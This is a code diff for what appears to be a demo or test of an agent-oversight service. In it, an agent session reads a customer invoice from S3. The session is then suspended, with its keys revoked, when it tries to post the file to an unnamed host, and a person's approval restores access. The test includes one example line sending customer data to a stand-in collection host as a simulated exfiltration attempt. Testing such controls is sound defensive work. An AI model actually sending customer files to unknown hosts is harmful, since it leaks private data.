@@ -7,6 +7,7 @@
  * it.
  */
 import { createRequire } from 'node:module';
+import { setTimeout as pause } from 'node:timers/promises';
 import { GetObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
 import { Storage, type StorageOptions } from '@google-cloud/storage';
 import { Octokit } from '@octokit/rest';
@@ -161,6 +162,46 @@ await refused('GitHub', readPolicy);
 await refused('Google Cloud', readStatement);
 if (ask !== null) await refused('PostgreSQL', () => ask('SELECT id FROM orders'));
 
+step('8', 'What it did before decides what it may do now: it reads a customer’s file, and tries to post it');
+const run = await Writ.openSession({
+  url: WRIT_URL!,
+  subjectToken: githubActionsToken(),
+  taskType: 'answer-invoice-question',
+  inputs: { customer_id: customer },
+  onBehalfOf: 'user:owner@example.com',
+});
+steps.say(`session ${run.id}, for another question`);
+process.send?.({ session: run.id });
+const newKey = async () => s3Client(awsCredentialsOf(await run.grant('read-customer-files', {}, { type: 'aws' })));
+const key = await newKey();
+const readFile = (client: S3Client) =>
+  client
+    .send(new GetObjectCommand({ Bucket: 'orders', Key: `customers/${customer}/invoice.txt` }))
+    .then((answer) => answer.Body!.transformToString());
+const reading = await run.call('read_file', { path: `customers/${customer}/invoice.txt` });
+const content = await readFile(key);
+await reading.finish({ outcome: 'response', output: content });
+steps.check(true, 'read_file', 'allowed, and reported');
+const known = await run.evaluate('http_post', { url: 'https://api.example.com/answers', body: content });
+steps.check(known.effect === 'allow', 'http_post to a known host', known.effect);
+const posted = await run.evaluate('http_post', { url: 'https://collect.elsewhere.test/', body: content });
+steps.check(
+  posted.effect === 'suspend',
+  'refused: http_post to a host that nobody named',
+  `${posted.effect}: ${posted.reasons.map(({ advice }) => advice).join(' ')}`,
+);
+await untilRefused(() => readFile(key));
+await refused('its AWS key, a moment later', () => readFile(key));
+await refused('a new key, while it is suspended', () => run.grant('read-customer-files', {}, { type: 'aws' }));
+steps.say(`a person must look at it: ${posted.approval?.url}`);
+process.send?.({ approvalUrl: posted.approval?.url, button: 'Let it go on' });
+while ((await run.overview()).session.status === 'suspended') await pause(200);
+await refused('the old key stays dead', () => readFile(key));
+const anew = await newKey();
+await works('a person let it go on, and it asks for a new key', () => readFile(anew));
+await run.end({ waitSeconds: 30 });
+for (const client of [key, anew]) client.destroy();
+
 s3.destroy();
 writer.destroy();
 process.exitCode = steps.failed() === 0 ? 0 : 1;
@@ -180,6 +221,17 @@ async function openShop(): Promise<(text: string) => Promise<string>> {
       await client.end();
     }
   };
+}
+
+/** Credentials that are revoked are refused after the provider's own lag. */
+async function untilRefused(attempt: () => Promise<unknown>): Promise<void> {
+  while (
+    await attempt().then(
+      () => true,
+      () => false,
+    )
+  )
+    await pause(50);
 }
 
 function s3Client(credentials: ReturnType<typeof awsCredentialsOf>): S3Client {
